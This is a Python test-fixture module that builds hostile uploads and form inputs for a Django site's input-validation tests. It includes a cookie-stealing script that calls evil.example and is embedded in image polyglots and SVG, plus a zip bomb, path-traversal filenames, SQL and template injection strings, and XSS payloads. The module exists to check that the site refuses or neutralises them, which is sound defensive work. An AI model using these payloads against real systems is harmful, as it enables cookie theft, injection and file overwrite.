"""A generated corpus of hostile uploads and form fields, for tests/test_hostile_input.py.

Each entry says what it is, how to build it, and what the site must do with it:

* REFUSED: the form comes back with status 400 and `message` on the page; nothing is stored
  (no report row, no evidence row, no file on disk);
* NEUTRALISED: the report is accepted, and `check(report)` proves the payload is harmless as
  stored (re-encoded image, sanitised name, forged field ignored...).

Everything is built in memory from a few bytes (the decompression bombs are ~50 KB of PNG
declaring 400 megapixels), so the whole corpus runs in seconds.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

from PIL import Image

from tests import evidence_files

REFUSED = "refused"
NEUTRALISED = "neutralised"

# Messages a person sees (substrings of impacts.evidence and Django's form messages).
NOT_ACCEPTED = "is not a kind of file we can accept"
UNREADABLE_PHOTO = "looks like a photo but could not be read"
TOO_MANY_PIXELS = "megapixels, which we cannot process"
ACTIVE_PDF = "contains scripts or embedded files"
UNREADABLE_PDF = "looks like a PDF but could not be read"
ENCRYPTED_PDF = "is protected with a password or encryption"
EMPTY = "is empty (0 bytes)"
NUL_REFUSED = "Null characters are not allowed."


@dataclass(frozen=True)
class HostileFile:
    id: str
    build: Callable[[], bytes]
    name: str = "evidence.jpg"
    outcome: str = REFUSED
    message: str = ""  # on the page, for REFUSED
    check: Callable | None = None  # (evidence_row, public_bytes) -> None, for NEUTRALISED


@dataclass(frozen=True)
class HostileFields:
    id: str
    fields: dict = field(default_factory=dict)
    outcome: str = REFUSED
    message: str = ""
    check: Callable | None = None  # (report, tracking_page_text) -> None, for NEUTRALISED


# --- Builders ------------------------------------------------------------------------------------


def _png(image: Image.Image, **params) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format="PNG", **params)
    return buffer.getvalue()


def _jpeg(image: Image.Image, **params) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", **params)
    return buffer.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


SCRIPT = b"<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>"


def png_then_html_after_iend() -> bytes:
    """A complete, valid PNG followed by an HTML page: browsers sniffing HTML would run it."""
    return evidence_files.png_bytes(120, 80) + SCRIPT


def png_with_script_in_text_chunk() -> bytes:
    whole = evidence_files.png_bytes(120, 80)
    at = whole.index(b"IEND") - 4
    return whole[:at] + _chunk(b"tEXt", b"Comment\x00" + SCRIPT) + whole[at:]


def jpeg_with_script_in_comment() -> bytes:
    return _jpeg(Image.new("RGB", (120, 80), (90, 90, 90)), comment=SCRIPT)


def jpeg_then_html_after_eoi() -> bytes:
    return _jpeg(Image.new("RGB", (120, 80), (90, 90, 90))) + SCRIPT


def gif_html_polyglot() -> bytes:
    return b"GIF89a/*\x00\x00*/=1;" + SCRIPT


def webp_header_then_html() -> bytes:
    body = b"WEBPVP8 " + SCRIPT
    return b"RIFF" + struct.pack("<I", len(body)) + body


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small JPEG whose SOF0 header is rewritten to announce width x height."""
    whole = _jpeg(Image.new("RGB", (16, 16), (10, 20, 30)))
    at = whole.index(b"\xff\xc0")
    return whole[: at + 5] + struct.pack(">HH", height, width) + whole[at + 9 :]


def truncated_png() -> bytes:
    whole = _png(Image.effect_noise((300, 200), 60).convert("RGB"))
    return whole[: len(whole) // 2]


def png_16bit_rgb() -> bytes:
    """48-bit colour (16 bits per channel), written by hand: Pillow cannot write it."""
    width, height = 64, 32
    row = b"\x00" + b"".join(struct.pack(">HHH", x * 1000, 30000, 65535 - x * 1000) for x in range(width))
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 16, 2, 0, 0, 0))
        + _chunk(b"IDAT", zlib.compress(row * height))
        + _chunk(b"IEND", b"")
    )


def windows_program() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(200)


def zip_archive() -> bytes:
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb.txt", b"0" * 5_000_000)  # 5 MB of zeros in ~5 KB
    return buffer.getvalue()


def svg_with_script_element() -> bytes:
    return b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'


# --- Checks for neutralised files ---------------------------------------------------------------


def _reencoded_jpeg(item, public: bytes) -> None:
    assert public.startswith(b"\xff\xd8\xff"), "the public copy is a JPEG"
    assert b"<script" not in public and b"<html" not in public, "no payload survives re-encoding"
    with Image.open(io.BytesIO(public)) as image:
        assert image.format == "JPEG" and image.mode == "RGB"
        image.load()
        assert "comment" not in image.info and "exif" not in image.info


def _named(expected: str):
    def check(item, public: bytes) -> None:
        _reencoded_jpeg(item, public)
        assert item.original_name == expected
        assert "/" not in item.public_file.name.split("/", 2)[-1]
        assert expected not in item.public_file.name and expected not in item.sealed_file.name

    return check


def _safe_name(item, public: bytes) -> None:
    _reencoded_jpeg(item, public)
    name = item.original_name
    assert len(name) <= 101
    assert not any(char in name for char in "\x00\r\n\x1b\u202e\u200f/\\")


FILES: list[HostileFile] = [
    # Decompression bombs and huge declared dimensions: refused before any pixel is decoded.
    HostileFile(
        "png-decompression-bomb-400mp", evidence_files.decompression_bomb_png, "bomb.png", message=TOO_MANY_PIXELS
    ),
    HostileFile(
        "png-declaring-81mp", lambda: evidence_files.png_declaring(9_000, 9_000), "big.png", message=TOO_MANY_PIXELS
    ),
    HostileFile(
        "jpeg-declaring-65535x65535", lambda: jpeg_declaring(65_535, 65_535), "big.jpg", message=TOO_MANY_PIXELS
    ),
    HostileFile(
        "jpeg-declaring-60000x1000", lambda: jpeg_declaring(60_000, 1_000), "wide.jpg", message=TOO_MANY_PIXELS
    ),
    # Polyglots whose image part is not a real image: refused.
    HostileFile("png-signature-then-html", evidence_files.png_header_then_html, "x.png", message=UNREADABLE_PHOTO),
    HostileFile("gif-html-polyglot", gif_html_polyglot, "x.gif", message=NOT_ACCEPTED),
    HostileFile("webp-header-then-html", webp_header_then_html, "x.webp", message=UNREADABLE_PHOTO),
    # Polyglots that are real images carrying a payload: neutralised by re-encoding.
    HostileFile(
        "png-valid-then-html-after-iend", png_then_html_after_iend, "poly.png", NEUTRALISED, check=_reencoded_jpeg
    ),
    HostileFile(
        "png-script-in-text-chunk", png_with_script_in_text_chunk, "poly.png", NEUTRALISED, check=_reencoded_jpeg
    ),
    HostileFile("jpeg-script-in-comment", jpeg_with_script_in_comment, "poly.jpg", NEUTRALISED, check=_reencoded_jpeg),
    HostileFile(
        "jpeg-valid-then-html-after-eoi", jpeg_then_html_after_eoi, "poly.jpg", NEUTRALISED, check=_reencoded_jpeg
    ),
    # Scripts dressed as photos.
    HostileFile("svg-onload-named-jpg", evidence_files.svg_bytes, "photo.jpg", message=NOT_ACCEPTED),
    HostileFile("svg-script-element", svg_with_script_element, "map.svg", message=NOT_ACCEPTED),
    HostileFile("html-with-script-named-jpg", evidence_files.html_as_jpg, "photo.jpg", message=NOT_ACCEPTED),
    HostileFile("html-with-script-named-html", lambda: SCRIPT, "report.html", message=NOT_ACCEPTED),
    HostileFile("windows-program-named-jpg", windows_program, "photo.jpg", message=NOT_ACCEPTED),
    HostileFile("zip-archive", zip_archive, "photos.zip", message=NOT_ACCEPTED),
    HostileFile("empty-file", evidence_files.zero_bytes, "empty.jpg", message=EMPTY),
    # PDFs with active content.
    HostileFile("pdf-javascript", evidence_files.pdf_with_javascript, "lab.pdf", message=ACTIVE_PDF),
    HostileFile(
        "pdf-openaction-javascript", evidence_files.pdf_with_open_action_javascript, "lab.pdf", message=ACTIVE_PDF
    ),
    HostileFile(
        "pdf-obfuscated-javascript-names", evidence_files.pdf_with_obfuscated_javascript, "lab.pdf", message=ACTIVE_PDF
    ),
    HostileFile(
        "pdf-javascript-in-object-stream",
        evidence_files.pdf_with_javascript_in_object_stream,
        "lab.pdf",
        message=ACTIVE_PDF,
    ),
    HostileFile("pdf-launch-action", evidence_files.pdf_with_launch_action, "lab.pdf", message=ACTIVE_PDF),
    HostileFile("pdf-embedded-file", evidence_files.pdf_with_attachment, "lab.pdf", message=ACTIVE_PDF),
    HostileFile("pdf-xfa-form", evidence_files.pdf_with_xfa_form, "lab.pdf", message=ACTIVE_PDF),
    HostileFile("pdf-encrypted", evidence_files.encrypted_pdf, "lab.pdf", message=ENCRYPTED_PDF),
    HostileFile("pdf-garbage-after-header", evidence_files.fake_pdf, "lab.pdf", message=UNREADABLE_PDF),
    # Damaged images.
    HostileFile("jpeg-truncated", evidence_files.truncated_jpeg, "cut.jpg", message=UNREADABLE_PHOTO),
    HostileFile("png-truncated", truncated_png, "cut.png", message=UNREADABLE_PHOTO),
    # Unusual but honest images: accepted and re-encoded as RGB JPEG, never refused.
    HostileFile("jpeg-cmyk", evidence_files.cmyk_jpeg, "scan.jpg", NEUTRALISED, check=_reencoded_jpeg),
    HostileFile("png-16bit-grey", evidence_files.png_16bit, "sensor.png", NEUTRALISED, check=_reencoded_jpeg),
    HostileFile("png-16bit-rgb", png_16bit_rgb, "sensor.png", NEUTRALISED, check=_reencoded_jpeg),
    # Names: only a sanitised display text is kept; files are stored under random names.
    HostileFile(
        "name-path-traversal",
        evidence_files.png_bytes,
        "../../../../etc/cron.d/evil.png",
        NEUTRALISED,
        check=_named("evil.png"),
    ),
    HostileFile(
        "name-windows-path-traversal",
        evidence_files.png_bytes,
        "..\\..\\windows\\system32\\evil.png",
        NEUTRALISED,
        check=_named("evil.png"),
    ),
    HostileFile(
        "name-control-characters",
        evidence_files.png_bytes,
        "dust\x1b[31m\r\nphoto\x07.png",
        NEUTRALISED,
        check=_safe_name,
    ),
    HostileFile("name-rtl-override", evidence_files.png_bytes, "invoice\u202egnp.exe", NEUTRALISED, check=_safe_name),
    HostileFile("name-5000-characters", evidence_files.png_bytes, "a" * 5000 + ".png", NEUTRALISED, check=_safe_name),
    HostileFile(
        "name-html", evidence_files.png_bytes, '<img src=x onerror=alert(1)>".png', NEUTRALISED, check=_safe_name
    ),
]


# --- Fields --------------------------------------------------------------------------------------

TEMPLATE_SYNTAX = "{{ report.tracking_digest }} {% debug %} {{ settings.SECRET_KEY }}"
SQL = "'; DROP TABLE impacts_impactreport; -- \" OR 1=1 --"
HTML = "<script>alert('kzcn')</script><img src=x onerror=alert(1)>"


def _shown_literally(text: str, escaped: str | None = None):
    def check(report, page: str) -> None:
        assert (escaped or text) in page
        assert report.tracking_digest not in page

    return check


def _stored(name: str, value):
    def check(report, page: str) -> None:
        assert getattr(report, name) == value

    return check


def _ignored_forgery(report, page: str) -> None:
    assert report.status == "submitted"
    assert report.version == 1
    assert report.reference.startswith("KZCN-") and report.reference != "KZCN-2020-000001"
    assert report.public_description == report.description
    assert report.public_title == report.title
    assert report.internal_notes == "" and report.public_note == ""
    assert report.assigned_to_id is None and report.published_at is None


FIELDS: list[HostileFields] = [
    HostileFields(
        "title-201-characters",
        {"title": "x" * 201},
        message="This is 201 characters long, but at most 200 fit. Please shorten it.",
    ),
    HostileFields(
        "site-name-10000-characters",
        {"site_name": "s" * 10_000},
        message="This is 10,000 characters long, but at most 200 fit. Please shorten it.",
    ),
    HostileFields(
        "phone-with-script",
        {"contact_phone": "<script>1</script>"},
        message="Please write the phone number with digits only",
    ),
    HostileFields(
        "email-with-script", {"contact_email": "<script>@evil.example"}, message="Enter a valid email address."
    ),
    HostileFields("nul-in-title", {"title": "Dust\x00 on roofs"}, message=NUL_REFUSED),
    HostileFields("nul-in-description", {"description": "Dust\x00" * 10}, message=NUL_REFUSED),
    HostileFields("severity-out-of-range", {"severity": "5"}, message="Select a valid choice."),
    HostileFields("category-not-in-list", {"primary_category": "x' OR '1'='1"}, message="Select a valid choice."),
    HostileFields(
        "project-that-does-not-exist",
        {"project": "999999", "site_name": ""},
        message="Select a valid choice. That choice is not one of the available choices.",
    ),
    HostileFields("project-not-a-number", {"project": "1 OR 1=1", "site_name": ""}, message="Select a valid choice."),
    HostileFields("latitude-not-a-number", {"latitude": "NaN", "longitude": "1e400"}, message="Enter a number."),
    HostileFields(
        "latitude-out-of-range",
        {"latitude": "91", "longitude": "181"},
        message="Ensure this value is less than or equal to 90.",
    ),
    HostileFields("date-in-the-future", {"observed_on": "2999-01-01"}, message="The date cannot be in the future."),
    HostileFields("honeypot-filled", {"website": "http://spam.example"}, message="please leave the"),
    HostileFields(
        "forged-timestamp", {"form_started": "1700000000.0:forged:sig"}, message="The form could not be checked."
    ),
    # Neutralised: stored as typed, shown escaped, never evaluated.
    HostileFields(
        "template-syntax-in-text",
        {"title": "{{ 7|add:7 }} dust", "description": TEMPLATE_SYNTAX},
        NEUTRALISED,
        check=_shown_literally(TEMPLATE_SYNTAX),
    ),
    HostileFields(
        "sql-in-text",
        {"title": SQL[:200], "description": SQL, "settlement": SQL},
        NEUTRALISED,
        check=_stored("description", SQL),
    ),
    HostileFields(
        "html-script-in-text",
        {"description": HTML},
        NEUTRALISED,
        check=_shown_literally(HTML, "&lt;script&gt;alert(&#x27;kzcn&#x27;)&lt;/script&gt;"),
    ),
    HostileFields(
        "rtl-override-and-zero-width-in-title",
        {"title": "Plant \u202eevil\u200b"},
        NEUTRALISED,
        check=_stored("title", "Plant \u202eevil\u200b"),
    ),
    HostileFields(
        "forged-moderation-fields",
        {
            "status": "published",
            "reference": "KZCN-2020-000001",
            "version": "99",
            "public_description": "Forged public text",
            "public_title": "Forged title",
            "public_note": "ok",
            "internal_notes": "forged",
            "assigned_to": "1",
            "published_at": "2020-01-01 00:00",
            "tracking_digest": "0" * 64,
        },
        NEUTRALISED,
        check=_ignored_forgery,
    ),
]
